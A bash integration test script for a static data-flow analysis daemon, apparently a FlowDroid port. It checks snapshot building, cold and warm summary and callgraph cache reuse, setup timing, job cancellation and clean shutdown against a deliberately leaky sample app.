set -euo pipefail
cd "$(dirname "$0")/.."

bin=./target/release/flowdroid
if [[ ! -x "$bin" ]]; then
    echo "FAIL: $bin missing; run cargo build --release first" >&2
    exit 1
fi

cache=$(mktemp -d)
log=$(mktemp)
job3_out=$(mktemp)
snap=$(mktemp -d)/platform.fdps
svc_pid=""
cleanup() {
    [[ -n "$svc_pid" ]] && kill "$svc_pid" 2>/dev/null || true
    rm -rf "$cache" "$log" "$job3_out" "$(dirname "$snap")"
}
trap cleanup EXIT

# Platform snapshot round trip: build it once, boot the daemon from it.
"$bin" snapshot "$snap"
if [[ ! -s "$snap" ]]; then
    echo "FAIL: flowdroid snapshot wrote no file" >&2
    exit 1
fi
echo "platform snapshot: OK"

"$bin" serve --listen 127.0.0.1:0 --workers 2 --summary-cache "$cache" \
    --platform-snapshot "$snap" >"$log" 2>&1 &
svc_pid=$!

addr=""
for _ in $(seq 1 100); do
    addr=$(sed -n 's/^listening on //p' "$log")
    [[ -n "$addr" ]] && break
    sleep 0.1
done
if [[ -z "$addr" ]]; then
    echo "FAIL: daemon never announced its address" >&2
    cat "$log" >&2
    exit 1
fi
echo "daemon listening on $addr"

# Two jobs for the same app: the first runs against an empty store, the
# flush after it lets the second replay the staged summaries. (`|| true`:
# the client exits 2 when the analysis reports leaks, which insecurebank
# does by design.)
cold=$("$bin" client "$addr" analyze insecurebank || true)
warm=$("$bin" client "$addr" analyze insecurebank || true)
if ! grep -q '"summary_hits":0' <<<"$cold"; then
    echo "FAIL: cold job should start with zero cache hits: $cold" >&2
    exit 1
fi
if ! grep -q '"summary_hits":[1-9]' <<<"$warm"; then
    echo "FAIL: warm job reported no summary-cache hits: $warm" >&2
    exit 1
fi
echo "cold->warm summary-cache sharing: OK"

# Daemon-resident callgraph cache: the cold job builds the entry-point
# model and callgraph (miss), the warm job replays them (hit) and must
# get through setup strictly faster than the cold one.
if ! grep -q '"callgraph_cache_misses":1' <<<"$cold"; then
    echo "FAIL: cold job should miss the callgraph cache: $cold" >&2
    exit 1
fi
if ! grep -q '"callgraph_cache_hits":1' <<<"$warm"; then
    echo "FAIL: warm job replayed no cached callgraph: $warm" >&2
    exit 1
fi
cold_setup=$(grep -o '"setup_us":[0-9]*' <<<"$cold" | grep -o '[0-9]*$')
warm_cg_setup=$(grep -o '"setup_us":[0-9]*' <<<"$warm" | grep -o '[0-9]*$')
if [[ -z "$cold_setup" || -z "$warm_cg_setup" || "$warm_cg_setup" -ge "$cold_setup" ]]; then
    echo "FAIL: warm setup (${warm_cg_setup:-?} us) is not below cold setup (${cold_setup:-?} us)" >&2
    exit 1
fi
echo "warm callgraph-cache replay (setup $warm_cg_setup us < cold $cold_setup us): OK"

# Demand-driven frontend: jobs run against the shared platform
# snapshot, decode bodies on demand, and a warm job spends less time
# in setup than in the data-flow solver.
if ! grep -q '"bodies_materialized":[1-9]' <<<"$cold"; then
    echo "FAIL: cold job decoded no bodies on demand: $cold" >&2
    exit 1
fi
warm_setup=$(grep -o '"setup_us":[0-9]*' <<<"$warm" | grep -o '[0-9]*$')
warm_dataflow=$(grep -o '"dataflow_us":[0-9]*' <<<"$warm" | grep -o '[0-9]*$')
echo "warm job: setup ${warm_setup:-?} us, dataflow ${warm_dataflow:-?} us"
if [[ -z "$warm_setup" || -z "$warm_dataflow" || "$warm_setup" -gt "$warm_dataflow" ]]; then
    echo "FAIL: warm job setup (${warm_setup:-?} us) exceeds dataflow (${warm_dataflow:-?} us)" >&2
    exit 1
fi
echo "warm setup below dataflow: OK"

# Cancel an in-flight job: submit a long synthetic job, wait until a
# worker picks it up, then cancel it from a second connection. The
# blocked client must come back promptly with an aborted result and the
# dedicated exit code 3.
"$bin" client "$addr" analyze stress/6000 >"$job3_out" 2>&1 &
job3_pid=$!
for _ in $(seq 1 100); do
    if "$bin" client "$addr" stats | grep -q '"state":"running"'; then
        break
    fi
    sleep 0.1
done
"$bin" client "$addr" cancel 3 >/dev/null
job3_status=0
wait "$job3_pid" || job3_status=$?
if [[ "$job3_status" -ne 3 ]]; then
    echo "FAIL: cancelled job exited $job3_status, want 3" >&2
    cat "$job3_out" >&2
    exit 1
fi
if ! grep -q '"abort_reason":"cancelled"' "$job3_out"; then
    echo "FAIL: job 3 result is not marked cancelled:" >&2
    cat "$job3_out" >&2
    exit 1
fi
echo "in-flight cancellation: OK"

"$bin" client "$addr" shutdown >/dev/null
wait "$svc_pid"
svc_pid=""
echo "clean shutdown: OK"
